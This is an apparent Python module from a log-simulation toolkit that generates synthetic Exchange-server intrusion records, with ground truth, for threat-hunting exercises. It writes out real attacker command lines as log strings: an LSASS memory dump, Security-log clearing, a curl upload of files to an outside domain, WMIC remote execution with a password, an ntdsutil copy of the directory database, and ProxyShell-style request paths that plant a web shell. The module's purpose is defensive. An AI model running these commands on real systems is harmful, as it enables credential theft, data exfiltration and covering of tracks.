"""What intruders do in these logs, as building blocks for scenarios. Each leaves records and notes them as true.

Nothing here is an exploit: requests carry no working payload, only the shape that a log keeps of one.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime
from random import Random

from stillhunt.simulation import kinds
from stillhunt.simulation.background.administration import log_cmdlet
from stillhunt.simulation.chance import hexadecimal, stream, wobble
from stillhunt.simulation.estate import Person
from stillhunt.simulation.machine import Machine
from stillhunt.simulation.programs import SYSTEM32
from stillhunt.simulation.truth import ClearedLog, union
from stillhunt.simulation.windows import Process, Session
from stillhunt.simulation.world import World

__all__ = ["Intruder", "export_mailbox", "forge_front_end", "take_database"]

_TOOL = "python-requests/2.25.1"
_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0"
_DUMP_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+a5314|C:\\Windows\\System32\\KERNELBASE.dll+2940d"
    "|C:\\Windows\\System32\\comsvcs.dll+1f6f9|C:\\Windows\\System32\\rundll32.exe+3c2f"
)


@dataclass(slots=True)
class Intruder:
    """Somebody with a clock of their own: every act moves it on and is noted in the ledger.

    Attributes:
        world: Where they are.
        now: What time it is for them.
        address: Where they come from at the moment.
        page: Path of the web shell they use, or empty.
        random: Their own stream of chance.
    """

    world: World
    now: datetime
    address: str = ""
    page: str = ""
    random: Random = field(init=False)

    def __post_init__(self) -> None:
        self.random = self.world.chance("intruder")

    @property
    def mail(self) -> Machine:
        """The mail server."""
        return self.world.machines["MAIL01"]

    def begin(self, title: str, machine: Machine, tactics: tuple[str, ...], techniques: tuple[str, ...]) -> None:
        """Begin a stage on a machine, which counts as compromised from here on."""
        self.world.ledger.begin(title, host=machine.host.fqdn, tactics=tactics, techniques=techniques)
        union(self.world.ledger.hosts, (machine.host.fqdn,))

    def begin_at(self, title: str, where: str, tactics: tuple[str, ...], techniques: tuple[str, ...]) -> None:
        """Begin a stage somewhere that is no Windows machine, or that does not count as compromised by it."""
        self.world.ledger.begin(title, host=where, tactics=tactics, techniques=techniques)

    def reads_files(self, machine: Machine, session: Session, share: str, local: str, files: Sequence[str]) -> None:
        """Open a share of a machine in a session, and read files of it."""
        ledger = self.world.ledger
        machine.open_share(self.after(0.2, 2), session, share, local)
        for file in files:
            machine.touch_share_file(self.after(0.4, 9), session, share, local, file)
        union(ledger.hosts, (machine.host.fqdn,))
        union(ledger.shares, (f"\\\\{machine.host.name}\\{share}",))
        union(ledger.files_read, (f"{local}\\{file}" for file in files))

    def come_back(self, at: datetime, address: str) -> None:
        """Be back at a later time, from an address."""
        self.now, self.address = at, address
        union(self.world.ledger.addresses, (address,))

    def after(self, low_s: float, high_s: float) -> datetime:
        """Let time pass, and return the moment of the next act, noted as a sign of the intruder."""
        self.now = wobble(self.random, self.now, low_s, high_s)
        return self.world.ledger.sign(self.now)

    def asks(
        self, at: datetime, method: str, path: str, query: str = "", *, status: str = "200", taken_ms: int | None = None
    ) -> None:
        """Send a request to the mail server; its log line shows whole seconds, and so does the truth."""
        agent = _BROWSER if path.endswith(".aspx") or method == "GET" else _TOOL
        self.world.ledger.sign(at.replace(microsecond=0))
        self.world.web.request(
            at, method, path, query, client=self.address, agent=agent, status=status, taken_ms=taken_ms
        )

    def types(
        self, line: str, *, program: str = "", disguises: str = "", directory: str = "c:\\windows\\system32\\inetsrv\\"
    ) -> Process:
        """Have the web shell run a line: a request, ``cmd.exe`` below the web server, and the program it names.

        Args:
            line: What is run.
            program: Path or file name of the program that runs it; none for a command of ``cmd.exe`` itself.
            disguises: File name of the program it really is, if it was renamed.
            directory: The shell's current directory.
        """
        at = self.after(9, 70)
        worker = self.mail.standing("w3wp.exe:owa", at)
        shell_line = f'"cmd.exe" /c {line}'
        started = wobble(self.random, at, 0.05, 0.3)
        last = shell = self.mail.run(started, "cmd.exe", shell_line, parent=worker, directory=directory)
        if program:
            begun = wobble(self.random, started, 0.02, 0.2)
            last = self.mail.run(begun, program, line, parent=shell, directory=directory, disguises=disguises)
        answered = self.world.ledger.sign(wobble(self.random, at, 0.6, 2.4))
        self.asks(answered, "POST", self.page)
        return last

    def drops(self, at: datetime, machine: Machine, process: Process, path: str) -> None:
        """Write a file."""
        machine.create_file(at, process, path)
        union(self.world.ledger.paths, (path,))

    def dumps_credentials(self, path: str) -> None:
        """Copy the memory of LSASS into a file, with a library that Windows brings along."""
        lsass = self.mail.standing("lsass.exe", self.now)
        line = f"rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump {lsass.pid} {path} full"
        dumper = self.types(line, program="rundll32.exe")
        self.mail.access(self.after(0.2, 0.6), dumper, lsass, "0x1fffff", _DUMP_TRACE)
        self.drops(self.after(0.1, 0.4), self.mail, dumper, path)

    def acts_as(self, person: Person) -> None:
        """Note that an account is in the intruder's hands."""
        union(self.world.ledger.accounts, (self.world.estate.account(person),))

    def reaches(self, machine: Machine, person: Person, *, with_process: Process) -> Session:
        """Log on over the network from the mail server to another machine with a stolen account."""
        self.acts_as(person)
        at = self.after(0.4, 2.0)
        self.mail.use_credentials(at, with_process.session, person, machine.host, with_process)
        self.world.machines["DC01"].check_password(self.after(0.05, 0.2), person, self.mail.host.name)
        return machine.log_on(
            self.after(0.1, 0.8),
            person,
            logon_type=3,
            address=self.mail.host.address,
            workstation=self.mail.host.name,
            is_admin=True,
            package="NTLM",
        )

    def runs_remotely(self, machine: Machine, person: Person, line: str) -> tuple[Session, Process]:
        """Run a line on another machine through WMI with a stolen account; returns its session and its shell."""
        account = self.world.estate.account(person)
        password = f"Sample-{hexadecimal(stream(self.world.seed, f'password {person.login}'), 6)}"
        remote = f'wmic /node:{machine.host.name} /user:{account} /password:{password} process call create "{line}"'
        local = self.types(remote, program=SYSTEM32 + "wbem\\WMIC.exe")
        self.mail.connect(self.after(0.1, 0.5), local, machine.host.address, 135, name=machine.host.fqdn)
        session = self.reaches(machine, person, with_process=local)
        provider = machine.standing("wmiprvse.exe", self.now)
        shell = machine.run(self.after(0.2, 1.0), "cmd.exe", line, parent=provider, session=session)
        return session, shell

    def clears_log(self, since: datetime) -> None:
        """Clear the mail server's Security log, and with it what was logged since the last export."""
        self.types("wevtutil cl Security", program="wevtutil.exe")
        at = self.after(0.1, 0.5)
        n_lost = self.mail.clear_security_log(at, self.mail.system, since=since)
        cleared = ClearedLog(host=self.mail.host.fqdn, channel="Security", since=since, cleared_at=at, n_lost=n_lost)
        self.world.ledger.cleared.append(cleared)

    def sends(self, path: str, domain: str, address: str) -> None:
        """Upload a file of the mail server to a host outside."""
        union(self.world.ledger.domains, (domain,))
        union(self.world.ledger.addresses, (address,))
        line = f"curl.exe -s -k -T {path} https://{domain}/put/{path.rpartition(chr(92))[2]}"
        process = self.types(line, program="curl.exe")
        self.mail.query_name(self.after(0.1, 0.5), process, domain, address)
        self.mail.connect(self.after(0.1, 0.5), process, address, 443, name=domain)


def forge_front_end(intruder: Intruder, person: Person, *, domain: str, page: str, on_disk: str) -> None:
    """Enter a mail server the way of August 2021 (CVE-2021-34473, -34523, -31207), as its logs show it.

    A front end that forwards ``autodiscover.json`` with another path behind it lets a stranger reach the back end:
    first to see that it works, then to learn whose mailbox to be, then to run cmdlets as that administrator, the
    last of which writes a mailbox with a script in it where the web server will run it.

    Args:
        intruder: Who does it.
        person: The administrator they pass for.
        domain: The domain in the forged address.
        page: Path of the web shell in requests.
        on_disk: Its path on the server.
    """
    world, mail, random = intruder.world, intruder.mail, intruder.random
    mark = f"@{domain}"
    tail = f"&Email=autodiscover/autodiscover.json%3F{mark}"
    stem = "/autodiscover/autodiscover.json"
    intruder.begin("mail server entered through its front end", mail, ("initial-access",), ("T1190",))
    union(world.ledger.domains, (domain,))
    intruder.asks(intruder.after(0, 1), "GET", stem, f"{mark}/mapi/nspi/?{tail}")
    intruder.asks(intruder.after(20, 80), "POST", stem, f"{mark}/autodiscover/autodiscover.xml?{tail}")
    intruder.asks(intruder.after(2, 6), "POST", stem, f"{mark}/mapi/emsmdb/?{tail}", status="500")
    intruder.asks(intruder.after(2, 6), "POST", stem, f"{mark}/EWS/exchange.asmx?{tail}")
    token = (
        b64encode(f"synthetic token of {person.login} ".encode() + random.randbytes(60)).decode().replace("+", "%2B")
    )
    back_end = f"{mark}/powershell/?X-Rps-CAT={token}{tail}"
    intruder.asks(intruder.after(3, 9), "POST", stem, back_end, status="401.1")
    cmdlets = (
        ("New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "{person.login}"'),
        (
            "New-MailboxExportRequest",
            f'-Mailbox "{person.login}" -IncludeFolders "#Drafts#" -FilePath "{_on_own_share(on_disk)}"',
        ),
    )
    intruder.begin("web shell written by a mailbox export", mail, ("persistence",), ("T1505.003",))
    for cmdlet, parameters in cmdlets:
        _runs_cmdlet(intruder, person, cmdlet, parameters, stem=stem, back_end=back_end)
    at = intruder.after(6, 25)
    intruder.drops(at, mail, mail.standing("mailboxreplication", at), on_disk)
    union(world.ledger.web_shells, (page,))
    # The drafts of whom they pass for are exported, script and all.
    union(world.ledger.mailboxes, (world.estate.mailbox(person),))
    intruder.acts_as(person)
    intruder.page = page
    intruder.asks(intruder.after(4, 15), "GET", page)
    intruder.begin("traces of the export removed", mail, ("defense-evasion",), ("T1070",))
    removal = f'-Identity "{person.login}\\MailboxExport" -Confirm "False"'
    _runs_cmdlet(intruder, person, "Remove-MailboxExportRequest", removal, stem=stem, back_end=back_end)


def export_mailbox(intruder: Intruder, owner: Person, person: Person, path: str) -> None:
    """Export a mailbox to a file of the mail server with cmdlets, run below the web shell as an administrator.

    Args:
        intruder: Who does it.
        owner: Whose mailbox.
        person: The administrator they pass for.
        path: Where the file goes.
    """
    mailbox = intruder.world.estate.mailbox(owner)
    parameters = f'-Mailbox "{mailbox}" -FilePath "{_on_own_share(path)}"'
    line = (
        'powershell.exe -NoProfile -Command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn;'
        f' New-MailboxExportRequest -Mailbox {mailbox} -FilePath {_on_own_share(path)}"'
    )
    mail = intruder.mail
    shell = intruder.types(line, program=SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe")
    log_cmdlet(
        mail,
        intruder.after(2, 6),
        person,
        "New-MailboxExportRequest",
        parameters,
        client="ManagementShell-Local",
        pid=shell.pid,
        took_s=intruder.random.uniform(0.4, 3),
    )
    at = intruder.after(40, 400)
    intruder.drops(at, mail, mail.standing("mailboxreplication", at), path)
    union(intruder.world.ledger.mailboxes, (mailbox,))


def take_database(intruder: Intruder, person: Person, folder: str) -> None:
    """Copy the directory's database, with the secrets of every account, by the domain controller's own tool.

    Args:
        intruder: Who does it.
        person: The stolen administrator.
        folder: Where the copy goes, on the domain controller.
    """
    dc = intruder.world.machines["DC01"]
    intruder.begin("directory database copied", dc, ("execution", "credential-access"), ("T1047", "T1003.003"))
    command = f'ntdsutil "ac i ntds" "ifm" "create full {folder}" q q'
    session, shell = intruder.runs_remotely(dc, person, f"cmd.exe /c {command}")
    dc.run(intruder.after(0.1, 0.4), "ntdsutil.exe", command, parent=shell)
    copied = f"{folder}\\Active Directory\\ntds.dit"
    values = ["ntdsutil", "4480,D,50", "", "1", copied, "0", "[1] 0.000, [2] 0.000, [3] 0.016"]
    dc.log(intruder.after(2, 6), kinds.DATABASE_CREATED, values)
    dc.log(intruder.after(8, 30), kinds.DATABASE_DETACHED, values)
    union(intruder.world.ledger.paths, (copied,))
    opened = intruder.after(30, 90)
    dc.open_share(opened, session, "C$", "C:\\")
    for name in ("Active Directory\\ntds.dit", "registry\\SYSTEM"):
        path = f"{folder}\\{name}".partition("\\")[2]
        dc.touch_share_file(intruder.after(1, 20), session, "C$", "C:\\", path)
    dc.log_off(intruder.after(20, 60), session, 3)
    estate = intruder.world.estate
    union(intruder.world.ledger.hosts_potential, (h.fqdn for h in estate.hosts))
    union(intruder.world.ledger.mailboxes_potential, (estate.mailbox(p) for p in estate.staff))
    for exposed in (
        *intruder.world.estate.staff,
        *intruder.world.estate.administrators,
        *intruder.world.estate.services,
    ):
        union(intruder.world.ledger.exposed, (intruder.world.estate.account(exposed),))


def _runs_cmdlet(intruder: Intruder, person: Person, cmdlet: str, parameters: str, *, stem: str, back_end: str) -> None:
    at = intruder.after(3, 12)
    pid = intruder.mail.standing("w3wp.exe:owa", at).pid + 4
    took_s = intruder.random.uniform(0.3, 2.0)
    log_cmdlet(
        intruder.mail, at, person, cmdlet, parameters, client="Remote-PowerShell-Unknown", pid=pid, took_s=took_s
    )
    intruder.asks(intruder.after(0.4, 2.2), "POST", stem, back_end)


def _on_own_share(path: str) -> str:
    r"""A path of the server as its own administrative share names it.

    >>> print(_on_own_share("C:\\inetpub\\x.aspx"))
    \\127.0.0.1\c$\inetpub\x.aspx
    """
    drive, _, rest = path.partition(":\\")
    return f"\\\\127.0.0.1\\{drive.lower()}$\\{rest}"
